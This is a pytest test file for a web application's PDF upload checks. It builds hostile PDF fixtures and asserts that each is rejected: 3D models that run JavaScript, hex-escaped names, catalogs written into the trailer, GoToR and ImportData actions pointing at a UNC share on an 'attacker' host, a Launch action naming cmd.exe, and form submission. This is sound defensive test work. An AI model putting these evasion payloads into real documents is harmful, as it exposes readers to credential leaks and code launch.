"""The PDF checks (cms/pdf_checks.py) against what a retest got through: 3D models that run a script, a catalog
written straight into the trailer, and action types written as strings; ordinary files still pass."""

import html
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.documents.models import Document as GuidanceDocument
from wagtail.models import Collection

from advice_forms.models import Document
from cms.pdf_checks import UploadProblem, pdf_bytes_problem
from tests.factories.advice_forms import ChildRecordFactory, advice_request, document_types
from tests.pdfs import action_on_click, action_on_open, one_page_writer, written
from tests.pdfs_more import UNC, annotation, catalog_in_trailer, model_3d, page_labels_as_strings

P = UploadProblem
U3D_SCRIPT = b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"
REFUSED = [
    ("3d-u3d-on-instantiate", model_3d(), P.MODEL_3D),
    ("3d-prc-no-script", model_3d(stream=b"/Type /3D /Subtype /PRC"), P.MODEL_3D),
    (
        "3d-hex-escaped-names",
        model_3d(b"/Subtype /#33D", U3D_SCRIPT.replace(b"/OnInstantiate", b"/OnInst#61ntiate")),
        P.MODEL_3D,
    ),
    ("3d-subtype-as-string-plain-stream", model_3d(b"/Subtype (3D)", b"/Length1 0"), P.MODEL_3D),
    ("3d-subtype-by-reference", annotation(b"/Subtype 5 0 R", b"/3D"), P.MODEL_3D),
    (
        "file-attachment-subtype-by-reference",
        annotation(b"/Subtype 5 0 R /Name /Paperclip", b"/FileAttachment"),
        P.EMBEDDED,
    ),
    ("file-attachment-subtype-as-string", annotation(b"/Subtype (FileAttachment)"), P.EMBEDDED),
    ("trailer-catalog-gotor-unc", catalog_in_trailer(), P.LAUNCH),
    ("trailer-catalog-javascript", catalog_in_trailer(b"<< /S /JavaScript /JS (app.alert(1);) >>"), P.SCRIPT),
    ("trailer-catalog-submit", catalog_in_trailer(b"<< /S (SubmitForm) /F (https://x.example/) >>"), P.SUBMIT),
    ("string-gotor", action_on_open(b"<< /S (GoToR) /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    ("string-gotor-utf16-hex", action_on_open(b"<< /S <FEFF0047006F0054006F0052> /F %b >>" % UNC), P.LAUNCH),
    ("string-gotor-with-slash", action_on_open(b"<< /S (/GoToR) /F %b >>" % UNC), P.LAUNCH),
    ("string-launch-indirect", action_on_open(b"<< /S 4 0 R /F (cmd.exe) >>", b"(Launch)"), P.LAUNCH),
    ("string-import-data-on-click", action_on_click(b"<< /S (ImportData) /F %b >>" % UNC), P.LAUNCH),
    (
        "string-sound",
        action_on_open(b"<< /S (Sound) /Sound 4 0 R >>", b"<< /Length 0 >>\nstream\n\nendstream"),
        P.MEDIA,
    ),
]


@pytest.mark.parametrize(("case", "data", "message"), REFUSED, ids=[c[0] for c in REFUSED])
def test_3d_models_trailer_catalogs_and_string_action_types_are_refused(case, data, message):
    assert pdf_bytes_problem(data) == message


def test_the_test_files_carry_what_they_claim():
    from pypdf import PdfReader

    annotation = PdfReader(io.BytesIO(model_3d())).pages[0]["/Annots"][0].get_object()
    assert (annotation["/Subtype"], annotation["/3DD"]["/Subtype"]) == ("/3D", "/U3D")
    assert annotation["/3DD"]["/OnInstantiate"].get_data() == b"app.alert(1);"
    hexed = PdfReader(
        io.BytesIO(model_3d(b"/Subtype /#33D", U3D_SCRIPT.replace(b"/OnInstantiate", b"/OnInst#61ntiate")))
    )
    assert hexed.pages[0]["/Annots"][0]["/3DD"]["/OnInstantiate"].get_data() == b"app.alert(1);"

    trailer = PdfReader(io.BytesIO(catalog_in_trailer()))
    assert len(trailer.pages) == 1
    assert trailer.trailer["/Root"]["/OpenAction"] == {"/S": "/GoToR", "/F": "\\\\attacker\\share\\x.pdf"}
    assert sorted(trailer.xref[0]) == [1, 2], "the catalog is in no cross-reference entry"

    for data in (
        action_on_open(b"<< /S (GoToR) /F %b >>" % UNC),
        action_on_open(b"<< /S <FEFF0047006F0054006F0052> /F %b >>" % UNC),
    ):
        action = PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]
        assert (type(action["/S"]).__name__, action["/S"]) == ("TextStringObject", "GoToR")


def test_ordinary_files_with_strings_where_names_go_are_accepted():
    assert pdf_bytes_problem(page_labels_as_strings()) is None
    assert pdf_bytes_problem(catalog_in_trailer(b"<< /S /GoTo /D [1 0 R /Fit] >>")) is None
    assert pdf_bytes_problem(action_on_open(b"<< /S (GoTo) /D [3 0 R /Fit] >>")) is None
    assert pdf_bytes_problem(written(one_page_writer())) is None


@pytest.fixture
def own_request(professional):
    document_types()
    return advice_request(professional, child=ChildRecordFactory(first_name="Ariadne", last_name="Quill"))


@pytest.mark.parametrize(
    ("build", "message"),
    [(model_3d, P.MODEL_3D), (catalog_in_trailer, P.LAUNCH)],
    ids=["3d-javascript", "trailer-catalog"],
)
def test_the_professionals_upload_refuses_them_beside_the_field_and_stores_nothing(
    verified_client, own_request, build, message
):
    response = verified_client.post(
        f"/portal/requests/{own_request.pk}/documents/",
        {
            "title": "Speech therapy report",
            "document_type": "report",
            "file": SimpleUploadedFile("report.pdf", build(), content_type="application/pdf"),
        },
    )

    assert response.status_code == 200
    assert response.content.decode().count(message) == 2, "beside the field and in the summary"
    assert not Document.objects.exists()


def test_the_string_action_is_refused_as_a_guidance_document_too(verified_admin_client):
    response = verified_admin_client.post(
        "/admin/documents/add/",
        {
            "title": "Guidance leaflet",
            "file": SimpleUploadedFile("leaflet.pdf", action_on_open(b"<< /S (GoToR) /F %b >>" % UNC)),
            "collection": Collection.get_first_root_node().pk,
        },
    )

    assert response.status_code == 200
    assert html.escape(P.LAUNCH) in response.content.decode()
    assert not GuidanceDocument.objects.exists()
